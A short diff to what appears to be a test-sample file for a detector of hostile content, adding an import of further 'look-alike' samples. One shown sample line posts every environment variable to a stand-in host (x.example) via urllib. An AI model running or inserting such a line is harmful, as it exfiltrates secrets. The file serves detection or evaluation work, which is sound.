@@ -1,3 +1,4 @@
+import { FURTHER_LOOK_ALIKES } from "./further-look-alikes";
 import { FENCE } from "./hostile/row";
 import { docx, paragraph, pdf } from "./made-documents";
 import { skillMd, type LookAlike } from "./sample";
@@ -295,4 +296,5 @@ export const LOOK_ALIKES: readonly LookAlike[] = [
       "patterns.txt": 'urllib.request.urlopen("https://x.example/", str(dict(os.environ)).encode())\n',
     },
   },
+  ...FURTHER_LOOK_ALIKES,
 ];
